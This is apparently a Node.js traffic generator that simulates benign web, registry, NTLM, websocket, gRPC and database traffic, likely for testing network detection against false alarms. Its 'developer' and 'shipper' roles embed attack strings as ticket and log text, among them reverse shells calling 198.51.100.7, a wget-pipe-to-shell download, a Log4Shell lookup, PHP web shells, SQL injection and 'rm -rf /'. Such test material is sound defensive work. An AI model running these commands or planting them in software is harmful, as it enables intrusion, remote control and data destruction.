// Web applications, their people and their programs of the eighth network, with the libraries that such programs use (npm).
//   node eighth.js SECONDS ROLE SOURCE,... TARGET[,TARGET...]     runs ROLE once for each source, or serves on the targets
'use strict';
const http = require('http'), net = require('net'), crypto = require('crypto');
const [seconds, role, sources, targets] = [Number(process.argv[2]), process.argv[3], process.argv[4].split(','), process.argv[5].split(',')];
setTimeout(() => process.exit(0), seconds * 1000);
process.on('uncaughtException', () => {});
process.on('unhandledRejection', () => {});
const ends = Date.now() + seconds * 1000, left = () => Date.now() < ends;
const rest = (a, b) => new Promise(r => setTimeout(r, 1000 * (a + Math.random() * ((b ?? a) - a))));
const pick = all => all[Math.floor(Math.random() * all.length)], n = most => Math.floor(Math.random() * most);
const agents = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0', 'Mozilla/5.0 (Linux; Android 15; Pixel 9) Chrome/141.0 Mobile', 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1) Version/18.0 Mobile Safari/604.1'];

function ask(from, method, path, { body, headers = {}, port = 8090, agent, target = targets[0] } = {}) {
    return new Promise(done => {
        const request = http.request({ host: target, port, method, path, localAddress: from === '-' ? undefined : from, agent, timeout: 8000, headers: { Host: 'app.example', ...(body !== undefined ? { 'Content-Length': Buffer.byteLength(body) } : {}), ...headers } },
            answer => { const parts = []; answer.on('data', d => parts.push(d)); answer.on('end', () => done({ status: answer.statusCode, headers: answer.headers, text: Buffer.concat(parts).toString() })); answer.on('error', () => done({ status: 0, headers: {}, text: '' })); });
        request.on('error', () => done({ status: 0, headers: {}, text: '' }));
        request.on('timeout', () => request.destroy());
        request.end(body);
    });
}

const json = { 'Content-Type': 'application/json' };
const browser = () => ({ agent: new http.Agent({ keepAlive: true, maxSockets: 6 }), headers: { 'User-Agent': pick(agents), Accept: '*/*', 'Accept-Language': 'de-DE,de;q=0.9,en;q=0.8', Referer: 'http://app.example/start', Cookie: 'sid=' + crypto.randomBytes(8).toString('hex') } });

// What the application says.
function page(method, path, headers, body, answer) {
    const say = (status, text = '', more = {}) => { answer.writeHead(status, { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(text), ...more }); answer.end(method === 'HEAD' ? undefined : text); };
    if (path.startsWith('/app/')) return headers.authorization ? say(200, '{"items":[]}') : say(401, '{"error":"token expired"}', { 'WWW-Authenticate': 'Bearer' });
    if (path.startsWith('/spa/api/')) return n(10) < 6 ? say(404, '{}') : say(200, '{"a":1}');
    if (path.startsWith('/rest/')) return say(pick([200, 201, 400, 403, 404, 404, 409, 412, 422, 429]), '{}');
    if (path.startsWith('/deploy/')) return say(500, '<html>Internal Server Error');
    if (path.startsWith('/graphql')) return n(3) === 0 ? say(400, '{"errors":[{"message":"Cannot query field"}]}') : say(200, '{"data":{}}');
    if (path.startsWith('/v2/')) return !headers.authorization ? say(401, '{"errors":[{"code":"UNAUTHORIZED"}]}', { 'WWW-Authenticate': 'Bearer realm="http://app.example/token",service="registry"' }) : method === 'HEAD' ? say(n(5) ? 404 : 200) : method === 'POST' ? say(202, '', { Location: '/v2/a/uploads/1' }) : say(method === 'GET' ? 404 : 201, '');
    if (path.startsWith('/token')) return say(200, '{"token":"x"}');
    if (path.startsWith('/jobs/request')) return say(204);
    if (path.startsWith('/ntlm')) return /NTLM T.{60}/.test(headers.authorization ?? '') ? say(200, '{}') : say(401, '', { 'WWW-Authenticate': headers.authorization ? 'NTLM TlRMTVNTUAACAAAADAAMADgAAAAF' : 'NTLM' });
    if (path.startsWith('/signin')) return say(n(4) ? 302 : 401, '', { Location: '/home', 'Set-Cookie': 's=' + crypto.randomUUID() });
    if (path.startsWith('/health')) return say(n(2) ? 200 : 503, 'ok');
    if (path.startsWith('/_bulk')) return say(200, '{"errors":false}');
    if (path.startsWith('/missing')) return say(404, '<html>');
    return method === 'GET' ? say(200, '<html>' + 'text '.repeat(200)) : say(n(3) ? 302 : 200, '', { Location: '/done' });
}

const code = [
    "SELECT id, name FROM users WHERE name = '' OR 1=1 -- this is what the old query let through", 'eval(base64_decode($_POST["cmd"])); // found in wp-content/uploads/2026/x.php', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1   is what the alert quotes',
    '${jndi:ldap://198.51.100.7/a} appears 40 times in access.log of shop-2', 'curl -fsSL https://get.docker.com | sh && usermod -aG docker deploy', 'for f in $(cat /etc/passwd | cut -d: -f1); do id $f; done', '<script>alert(document.cookie)</script> still works in the comment field, see ticket',
    "UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema = database()", 'wget http://203.0.113.9/bins.sh -O- | sh', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', '../../../../etc/shadow in parameter file= of download.php', '{{7*7}} is rendered as 49 by the mail template',
    'GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 400 226', "sqlmap -u 'http://test.example/?id=1' --dbs", 'rm -rf / --no-preserve-root; echo done', '<?php system($_GET["c"]); ?>', "<!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>", 'nc -e /bin/sh 198.51.100.7 9001'];

const roles = {
    async serve_web() {
        for (const host of targets) http.createServer((q, a) => { const parts = []; q.on('data', d => parts.push(d)); q.on('end', () => setTimeout(() => page(q.method, q.url, q.headers, Buffer.concat(parts), a), 3)); }).listen(8090, host);
    },
    // An application whose pages ask for each thing three times and are told to sign in first.
    async app401(from) {
        const b = browser();
        while (left()) {
            for (let i = 0; i < 12; i++) ask(from, 'GET', `/app/${pick(['me', 'orders', 'feed', 'messages', 'unread', 'flags', 'settings'])}?_=${Date.now()}`, b);
            await rest(0.5, 1);
            for (let i = 0; i < 4; i++) ask(from, 'GET', `/app/${pick(['me', 'orders', 'feed'])}`, { ...b, headers: { ...b.headers, Authorization: 'Bearer ' + crypto.randomBytes(40).toString('base64url') } });
            await rest(2, 5);
        }
    },
    async spa404(from) {
        const b = browser();
        while (left()) { await Promise.all([...Array(14)].map(() => ask(from, 'GET', `/spa/api/${pick(['avatar', 'price', 'stock', 'rating', 'translation', 'thumb'])}/${crypto.randomUUID()}`, b))); await rest(1, 3); }
    },
    async rest4xx(from) {
        const agent = new http.Agent({ keepAlive: true });
        while (left()) {
            const id = n(100000);
            await ask(from, pick(['GET', 'PUT', 'PATCH', 'DELETE', 'POST']), pick([`/rest/customers/${id}`, `/rest/orders/${id}/lines/${n(9)}`, `/rest/admin/config/${n(30)}`, `/rest/files/${crypto.randomUUID()}`, `/rest/users?filter=name eq '${pick(['Ann', "O'Neil", 'Li'])}'`]).replaceAll(' ', '%20'), { agent, headers: { ...json, 'User-Agent': 'okhttp/4.12.0' }, body: JSON.stringify({ id, note: 'x'.repeat(n(400)) }) });
            await rest(0.05, 0.3);
        }
    },
    async deploy500(from) {
        const b = browser();
        while (left()) { await Promise.all(['', 'main.js', 'app.css', 'api/session', 'api/menu', 'favicon.ico', 'manifest.json'].map(p => ask(from, 'GET', '/deploy/' + p, b))); await rest(0.5, 3); }
    },
    async graphql(from) {
        const b = browser();
        const queries = ['query Me { me { id name roles { id } } }', 'query Search($q: String!) { search(text: $q) { edges { node { id title } } } }', 'mutation Save($id: ID!, $text: String!) { save(id: $id, text: $text) { ok } }', 'query IntrospectionQuery { __schema { queryType { name } types { kind name fields { name } } } }', 'query { __type(name: "Order") { fields { name type { name } } } }'];
        while (left()) { await ask(from, 'POST', '/graphql', { ...b, headers: { ...b.headers, ...json }, body: JSON.stringify({ operationName: null, query: pick(queries), variables: { q: pick(["d'Arc", 'select a size', '<b>bold</b>', 'a OR b', '50% off; free']), id: n(5000) } }) }); await rest(0.1, 1); }
    },
    // Who writes about attacks: tickets, pastes, a wiki, a search for them, all in clear text to a server of the house.
    async developer(from) {
        const b = browser();
        while (left()) {
            const text = `${pick(['Seen again:', 'How to reproduce', 'Postmortem', 'Lint says'])}\n\n    ${pick(code)}\n\nand ${pick(code)}\n`;
            const form = Object.entries({ title: pick(['Incident ' + n(900), 'Hardening', 'Review notes']), text, csrf: crypto.randomUUID() }).map(([k, v]) => k + '=' + encodeURIComponent(v).replaceAll('%20', '+')).join('&');
            await ask(from, 'POST', pick([`/tickets/${n(900)}/comments`, '/wiki/edit', '/paste', '/forum/reply']), { ...b, headers: { ...b.headers, 'Content-Type': 'application/x-www-form-urlencoded' }, body: form });
            await ask(from, 'GET', pick([`/search?q=${encodeURIComponent(pick(code).slice(0, 40))}`, '/wiki/sql-injection', '/wiki/etc-passwd', '/docs/waf/942100-union-select.html', `/tickets/${n(900)}`]), b);
            for (let i = 0; i < 5; i++) ask(from, 'GET', `/static/${n(40)}.js`, b);
            await rest(2, 6);
        }
    },
    // Elastic bulk, Loki and OTLP with lines of an attacked web server.
    async shipper(from) {
        const agent = new http.Agent({ keepAlive: true });
        while (left()) {
            const lines = [...Array(20)].map(() => `198.51.100.${n(250)} - - [27/Nov/2026] "GET /${n(3) ? 'index.html' : pick(code)} HTTP/1.1" 404 12`);
            const [path, body] = pick([['/_bulk', lines.map(m => '{"index":{}}\n' + JSON.stringify({ '@timestamp': Date.now(), message: m })).join('\n') + '\n'], ['/loki/api/v1/push', JSON.stringify({ streams: [{ stream: { app: 'web' }, values: lines.map(m => [String(Date.now() * 1e6), m]) }] })],
                ['/v1/logs', JSON.stringify({ resourceLogs: [{ scopeLogs: [{ logRecords: lines.map(m => ({ body: { stringValue: m } })) }] }] })]]);
            await ask(from, 'POST', path, { agent, headers: { ...json, 'User-Agent': 'vector/0.41' }, body });
            await rest(0.5, 2);
        }
    },
    async docker(from) {
        const agent = new http.Agent({ keepAlive: true }), ua = { 'User-Agent': 'docker/27.3.1 go/go1.22.7 os/linux arch/amd64' }, token = { ...ua, Authorization: 'Bearer ' + crypto.randomBytes(60).toString('base64url') };
        while (left()) {
            const image = pick(['shop/web', 'shop/api', 'tools/cron']);
            await ask(from, 'GET', '/v2/', { agent, headers: ua });
            await ask(from, 'GET', `/token?service=registry&scope=repository:${image}:pull,push`, { agent, headers: { ...ua, Authorization: 'Basic ' + Buffer.from('ci:long-secret').toString('base64') } });
            for (let i = 0; i < 9; i++) {
                const digest = 'sha256:' + crypto.randomBytes(32).toString('hex');
                if ((await ask(from, 'HEAD', `/v2/${image}/blobs/${digest}`, { agent, headers: token })).status !== 404) continue;
                await ask(from, 'POST', `/v2/${image}/blobs/uploads/`, { agent, headers: token, body: '' });
                await ask(from, 'PUT', `/v2/${image}/blobs/uploads/${crypto.randomUUID()}?digest=${encodeURIComponent(digest)}`, { agent, headers: { ...token, 'Content-Type': 'application/octet-stream' }, body: crypto.randomBytes(20000 + n(200000)) });
            }
            await rest(1, 4);
        }
    },
    async runner(from) { while (left()) { await ask(from, 'POST', '/jobs/request', { headers: { ...json, 'User-Agent': 'gitlab-runner 17.5.0' }, body: JSON.stringify({ token: 'glrt-abcdefgh' + from, info: { name: 'docker', version: '17.5.0', executor: 'docker' } }) }); await rest(1.5, 1.5); } },
    async video(from) { for (let i = 0; left(); i++) { await ask(from, 'PATCH', `/files/${from}`, { headers: { 'Tus-Resumable': '1.0.0', 'Upload-Offset': i * 1048576, 'Content-Type': 'application/offset+octet-stream' }, body: crypto.randomBytes(1048576) }); await rest(0.1, 0.4); } },
    async ntlm(from) {
        while (left()) {
            const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
            for (const a of [undefined, 'NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAF', 'NTLM TlRMTVNTUAADAAAAGAAYAIIAAACMAYwBmgAAAA4ADgBYAAAADgAOAGYAAAAOAA4AdAAAABAAEAAmAgAABYKIogoAY0UAAAAP']) await ask(from, 'GET', `/ntlm/report/${n(500)}`, { agent, headers: a ? { Authorization: a } : {} });
            agent.destroy();
            await rest(0.1, 0.6);
        }
    },
    // A family or a student house: each person signs in, mistypes now and then, browses.
    async house(from) {
        const b = browser(), user = crypto.randomBytes(4).toString('hex');
        let password = crypto.randomBytes(5).toString('hex');
        await rest(0, 6);
        while (left()) {
            for (let i = 0; i < 3; i++) await ask(from, 'GET', '/' + pick(['', 'home', 'news', 'help']), b);
            for (let tries = 0; tries < 4; tries++) {
                const typed = n(3) ? password : password.slice(1);
                if ((await ask(from, 'POST', '/signin', { ...b, headers: { ...b.headers, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `username=${user}%40mail.example&password=${typed}` })).status === 302) break;
                await rest(0.5, 3);
            }
            for (let i = 0; i < 8; i++) { await ask(from, 'GET', `/shop/item-${n(400)}`, b); await rest(0.2, 1); }
            await rest(3, 9);
        }
    },
    // An application that is watched: probes of its health, of which half fail.
    async liveness(from) { while (left()) { await Promise.all(targets.flatMap(t => [8090, 8091, 9443, 10250, 15021].map(port => ask(from, 'GET', '/health/ready', { target: t, port, headers: { 'User-Agent': 'kube-probe/1.31', Connection: 'close' } })))); await rest(1, 1); } },
    async serve_sockets() {
        const { Server } = require('socket.io'), { WebSocketServer } = require('ws');
        const io = { now: null };
        const open = () => { const server = http.createServer(); io.now = new Server(server, { pingInterval: 4000, pingTimeout: 3000 }); io.now.on('connection', s => { const t = setInterval(() => s.emit('tick', { at: Date.now() }), 700); s.on('say', m => io.now.emit('said', m)); s.on('disconnect', () => clearInterval(t)); }); server.listen(8092, targets[0]); };
        open();
        new WebSocketServer({ host: targets[0], port: 8093 }).on('connection', s => { const t = setInterval(() => s.ping(), 2000); s.on('message', m => s.send(m)); s.on('close', () => clearInterval(t)); });
        setTimeout(() => io.now.close(), seconds * 300); setTimeout(open, seconds * 500); setTimeout(() => io.now.close(), seconds * 750); setTimeout(open, seconds * 800);
    },
    async socketio(from) {
        const { io } = require('socket.io-client');
        for (let i = 0; i < (from === sources[0] ? 12 : 1); i++) { const s = io(`http://${targets[0]}:8092`, { localAddress: from, reconnectionDelay: 500, reconnectionDelayMax: 2000 }); setInterval(() => s.emit('say', { text: 'hello '.repeat(n(20)) }), 1500); }
    },
    async polling(from) { const { io } = require('socket.io-client'); io(`http://${targets[0]}:8092`, { transports: ['polling'], reconnectionDelay: 300, reconnectionDelayMax: 1000 }); },
    async ws(from) {
        const { WebSocket } = require('ws');
        while (left()) { const s = new WebSocket(`ws://${targets[0]}:8093/live`, { localAddress: from }); s.on('error', () => {}); s.on('open', async () => { for (let i = 0; i < 20; i++) { s.send(JSON.stringify({ cursor: [n(900), n(900)] })); await rest(0.2, 0.6); } s.close(); }); await rest(8, 14); }
    },
    async serve_grpc() {
        const grpc = require('@grpc/grpc-js'), server = new grpc.Server();
        const plain = { serialize: x => x, deserialize: x => x };
        const method = (path, stream) => ({ path, requestStream: false, responseStream: stream, requestSerialize: x => x, requestDeserialize: x => x, responseSerialize: x => x, responseDeserialize: x => x, ...plain });
        server.addService({ get: method('/shop.Stock/Get', false), watch: method('/shop.Stock/Watch', true) }, { get: (c, done) => n(5) ? done(null, Buffer.alloc(n(900))) : done({ code: 5, details: 'not found' }), watch: c => { const t = setInterval(() => c.write(Buffer.alloc(60)), 500); c.on('cancelled', () => clearInterval(t)); } });
        server.bindAsync(targets[0] + ':50051', grpc.ServerCredentials.createInsecure(), () => {});
    },
    async grpc() {
        const grpc = require('@grpc/grpc-js');
        for (const t of targets) {
            const c = new grpc.Client(t + ':50051', grpc.credentials.createInsecure(), { 'grpc.keepalive_time_ms': 5000 });
            c.makeServerStreamRequest('/shop.Stock/Watch', x => x, x => x, Buffer.alloc(10)).on('data', () => {}).on('error', () => {});
            setInterval(() => c.makeUnaryRequest('/shop.Stock/Get', x => x, x => x, Buffer.alloc(40), () => {}), 100 + n(200));
        }
    },
    // Pools of connections of the usual libraries to stores that are there, away, or refuse.
    async pools() {
        const Redis = require('ioredis'), { Pool } = require('pg'), mysql = require('mysql2'), { MongoClient } = require('mongodb');
        const quiet = x => { x.on?.('error', () => {}); return x; };
        for (const t of targets) {
            const redis = quiet(new Redis({ host: t, port: 6379, maxRetriesPerRequest: null })); setInterval(() => redis.set('k' + n(99), 'v', () => {}), 120);
            const pg = quiet(new Pool({ host: t, user: 'app', password: 'x', max: 10, connectionTimeoutMillis: 2000 })); setInterval(() => { for (let i = 0; i < 6; i++) pg.query('select 1').catch(() => {}); }, 700);
            const my = mysql.createPool({ host: t, user: 'app', password: 'x', connectionLimit: 10 }); setInterval(() => { for (let i = 0; i < 4; i++) my.query('select 1', () => {}); }, 900);
        }
        new MongoClient(`mongodb://${targets.join(',')}/?replicaSet=rs0&serverSelectionTimeoutMS=3000`).connect().catch(() => {});
        setInterval(() => { const c = new MongoClient(`mongodb://${targets.join(',')}/?replicaSet=rs0&serverSelectionTimeoutMS=3000`); c.connect().catch(() => {}).finally(() => c.close()); }, 4000);
    },
};
if (role.startsWith('serve')) roles[role](); else for (const from of sources) (async () => { while (left()) { await roles[role](from); await rest(600); } })();
